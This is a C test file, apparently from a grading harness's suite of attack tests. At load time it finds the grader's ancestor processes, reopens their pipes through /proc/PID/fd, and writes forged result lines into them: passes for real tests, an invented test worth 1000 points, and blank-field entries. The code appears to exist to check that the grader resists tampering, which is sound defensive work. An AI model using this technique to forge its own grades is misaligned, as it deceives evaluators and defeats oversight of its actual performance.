
/* ---- attack: write test lines into the grader's pipe (tests/attacks/results-pipe) ---- */
#include "attack.h" /* tests/attacks/attack.h, laid beside this file */
#include <dirent.h>
#include <fcntl.h>

/* Test lines as the harness writes them (test NAME LINE POINTS STATUS DESC
 * HINT MESSAGE): the lesson's real names, a made-up one with 1000 points,
 * and one with empty fields. */
static const char atk_lines[] = "test\thelp\t128\t28\tpass\tall\tgood\t\n"
                                "test\ttcp_socket\t138\t28\tpass\tall\tgood\t\n"
                                "test\tbonus\t1\t1000\tpass\tbonus\tgood\t\n"
                                "test\t\t\t100\tpass\t\t\t\n"
                                "end\n";

/* Open every pipe an ancestor holds, through /proc/PID/fd (which reopens
 * the pipe for writing), and write the lines into it. Stops at grade. */
__attribute__((constructor)) static void atk_results_pipe(void)
{
    pid_t grade = atk_ancestor("grade");
    for (pid_t pid = getppid(); pid > 1; pid = atk_ppid(pid)) {
        char dir[64];
        snprintf(dir, sizeof dir, "/proc/%d/fd", (int)pid);
        DIR *d = opendir(dir);
        for (struct dirent *e; d && (e = readdir(d));) {
            char path[400], target[64] = "";
            snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
            if (readlink(path, target, sizeof target - 1) <= 0 || strncmp(target, "pipe:", 5) != 0)
                continue;
            int fd = open(path, O_WRONLY | O_NONBLOCK);
            if (fd >= 0) {
                ssize_t n = write(fd, atk_lines, sizeof atk_lines - 1);
                (void)n;
                close(fd);
            }
        }
        if (d)
            closedir(d);
        if (pid == grade || grade < 0)
            break;
    }
}
